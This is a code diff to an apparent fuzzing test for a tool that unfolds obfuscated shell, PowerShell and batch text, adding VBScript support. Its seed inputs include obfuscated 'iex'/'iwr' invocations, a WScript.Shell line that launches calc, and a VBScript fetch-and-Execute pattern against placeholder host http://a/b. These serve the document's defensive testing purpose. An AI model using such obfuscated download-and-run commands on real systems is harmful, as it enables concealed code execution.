@@ -3,6 +3,8 @@
 from collections.abc import Iterable
 
 from ostiary.program.batch.folding import MAX_FOLDED, MAX_GROWN, rewritten
+from ostiary.program.batch.vbscript import MAX_SAID as MAX_TOLD
+from ostiary.program.batch.vbscript import commands_of
 from ostiary.program.shell.state import MAX_SAID
 from ostiary.program.shell.unfolding import unfolded
 
@@ -18,6 +20,9 @@ SEEDS = (
     b"$a='ie';&($a+'x') ('{1}{0}' -f 'r','iw')\n&($env:ComSpec[4,15,25]-join'') (gcm i?x)\n",
     b"(105,101|%{[char]($_ -bxor 1)})-join'';[char[]](1,2);'a'.Replace('a','b') -replace 'b','c'\n",
     b"set a=cXrl&& call %a:X=u% !a:~-2,1! ^&& [string]::join('',('a','b')[1..0])\n",
+    b'Set s = CreateObject("WScr" & "ipt.Shell") : s.Run Chr(99) & StrReverse("cla"), 0, False\n',
+    b'h.Open "GET", "http://a/b" : s.Write h.ResponseBody : s.SaveToFile "a" : Execute h.responseText\n',
+    b'If a Then\nc = Join(Split("a,b", ","), "") & _\n Mid("abc", 2, 1) \' rem\nEnd If\nEval(c)\n',
     b"sed 's/a/b/g;s#c#d#' <<< abc | cut -d: -f1,3- | head -c 2 | xxd -r -p | gunzip | tail -n +2\n",
 )
 
@@ -29,6 +34,7 @@ x=  x+=  x=(a  a[0]=  "${a[@]}"  ${a[*]}  eval  sh -c  bash  source  .  read x  
 echo -e  base64 -d  rev  tr a-z b-y  cut -c1-2  sed s/a/b/  head -c 3  seq 9  for x in  do  done
 while  until  if  then  else  fi  case  in  esac  ;;  f() {  }  (  {  set --  $@  $1  $#  shift
 'a'+'b'  -join  -f 'a'  [1,0]  [char]65  $env:ComSpec  -replace 'a','b'  %a%  !a:~1,2!  set a=b
+CreateObject("a")  .Run  .Open  Execute  Chr(1)  &H41  Set  If  Then  Else  For  Next  :  & _  Mid(  Rem
 local  export  alias  trap  IFS=,  \\  \n  ~  *  ?  [a]  {a,b}  {  }  !  #  %  /  :  =  +  -  @
 """.replace(b"\n", b"  ").split(b"  ")[1:]
 )
@@ -45,10 +51,15 @@ def shells(data: bytes) -> Iterable[str]:
     text = data.decode("utf-8", "replace")
     plain = rewritten(text)
     assert len(plain) <= (MAX_GROWN + 1) * len(text) + 2 * MAX_FOLDED, "it grows without an end"
+    told = commands_of(text)
+    assert told == commands_of(text), "not the same twice"
+    assert sum(len(one) for _, one in told.statements) <= MAX_TOLD, "more than is kept"
+    assert all(0 <= row <= text.count("\n") + text.count("\r") for row, _ in told.statements)
     heads = {text.split(" ", 1)[0][:12] for _, text in found.statements}
     return {
         f"shell: {len(found.statements).bit_length()} bits, {found.cut}, {found.long}",
         *(f"shell: {one}" for one in heads),
+        f"basic: {len(told.statements).bit_length()} bits, {told.cut}",
         f"windows: {abs(len(plain) - len(text)).bit_length()} bits",
     }
 
